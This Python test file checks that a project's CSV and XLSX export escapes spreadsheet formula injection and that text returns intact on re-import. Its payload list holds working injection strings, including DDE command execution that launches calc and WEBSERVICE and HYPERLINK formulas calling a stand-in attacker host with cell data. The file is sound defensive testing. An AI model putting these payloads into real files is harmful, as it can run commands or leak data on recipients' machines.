"""G13: no cell that leaves the house is alive, and what comes back reads as it left."""

import csv
import io
import zipfile
from datetime import date, datetime, time
from decimal import Decimal

import openpyxl
import pytest

from meedoen.activities.intake import read
from meedoen.kernel.spreadsheets import dangerous, escape, unescape, write_csv, write_xlsx
from meedoen.kernel.textchecks import clean_text

TODAY = date(2026, 3, 1)
COLUMNS = ["Naam", "Dag", "Begin", "Einde", "Tekst"]
FOOTER = {"Gemaakt door": "=Noor", "Waarvoor": "Overleg van 3 maart", "Bewaar tot": "31/12/2026"}
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://kwaad.example";"klik")',
    '=IMPORTXML(CONCAT("http://x";A1);"//a")',
    '=WEBSERVICE("http://kwaad.example/"&A1)',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "−1+1",
    "–1+1",
    "—1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "|cmd",
    "%0A=1+1",
    'DDE("cmd";"/C calc";"x")',
    '=DDE("cmd";"/C calc";"x")',
    "tekst\n=1+1",
    "tekst;=1+1",
    '";=1+1;"',
    "tekst\r\n+1",
    "=1+1 مرحبا",
    "=😀",
    "-",
    "=",
    "+32 14 12 34 56",
    "_x003D_1+1",
    "{=1+1}",
]
HARMLESS = ["'s avonds", "breien = leuk", "3 - 4 jaar", "'t Pleintje", "", "Ré", "a@b.be", "💛", "¿+?"]


def rows_of(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_starts_as_a_formula_in_any_column(payload):
    columns = [payload, "Naam", payload]
    for row in rows_of(write_csv(columns, [[payload, "x", payload]], footer={payload: payload})):
        for cell in row:
            assert (
                not cell.lstrip(" \u00a0\u3000\n")[:1]
                or cell.lstrip(" \u00a0\u3000\n")[0] not in "=+-@\t\r|%＝＋－＠﹦﹢﹣﹫−–—"
            )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xlsx_cell_is_a_formula_in_any_column(payload):
    data = write_xlsx([payload, "Naam"], [[payload, payload]], title=payload, footer={payload: payload})
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) == 6
    assert all(cell.data_type in ("s", "inlineStr") for cell in cells)
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2 and not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", [*PAYLOADS, *(text for text in HARMLESS if text)])
def test_the_text_comes_back_unchanged_through_our_own_import(payload, form):
    stored = clean_text(f"{payload} einde")  # as the house keeps text: cleaned, line ends as \n
    rows = [[payload + " naam", date(2026, 3, 14), time(14, 0), time(16, 0), stored]]
    if form == "csv":
        data = write_csv(COLUMNS, rows, footer=FOOTER).encode()
    else:
        data = write_xlsx(COLUMNS, rows, title="Lijst", footer=FOOTER)
    reading = read(data, today=TODAY)
    assert reading.refusals == ()
    [draft] = reading.drafts
    assert draft.text["nl"] == stored.strip(" \u00a0")
    assert draft.title["nl"] == clean_text(payload + " naam").strip(" \u00a0")
    assert draft.sessions[0].start.strftime("%d/%m/%Y %H:%M") == "14/03/2026 14:00"


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS])
def test_unescape_undoes_escape(text):
    assert unescape(escape(text)) == text
    assert unescape(escape(escape(text))) == escape(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert not dangerous(text)
    assert escape(text) == text == unescape(text)


def test_hidden_marks_do_not_hide_a_formula():
    assert dangerous("\u200b=1+1") and dangerous("\u202e=1+1") and dangerous("\x00=1+1")


def test_the_types_of_cells_in_csv():
    row = [1, -2, 2.5, Decimal("3.10"), None, date(2026, 3, 14), datetime(2026, 3, 14, 9, 5), time(9, 5)]
    assert rows_of(write_csv(list("abcdefgh"), [row], footer={}))[1] == [
        "1", "-2", "2,5", "3,10", "", "14/03/2026", "14/03/2026 09:05", "09:05",
    ]  # fmt: skip


def test_the_types_of_cells_in_xlsx():
    row = [1, -2.5, Decimal("3.10"), None, date(2026, 3, 14), "tekst"]
    data = write_xlsx(list("abcdef"), [row], title="Lijst", footer={})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.value for cell in sheet[2]] == [1, -2.5, 3.1, None, datetime(2026, 3, 14), "tekst"]


def test_each_file_says_who_why_and_until_when():
    lines = rows_of(write_csv(["Naam"], [["Soep"]], footer=FOOTER))
    assert lines[2:] == [[], ["Gemaakt door: =Noor"], ["Waarvoor: Overleg van 3 maart"], ["Bewaar tot: 31/12/2026"]]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(["Naam"], [["Soep"]], title="A/B [1]", footer=FOOTER)))
    assert [tuple(cell.value for cell in row) for row in book.worksheets[-1].iter_rows()] == list(FOOTER.items())
    assert book.sheetnames[0] == "A B  1"


def test_too_long_a_text_is_not_cut_without_a_word():
    with pytest.raises(ValueError, match="Excel cell"):
        write_xlsx(["Naam"], [["x" * 32_768]], title="Lijst", footer={})
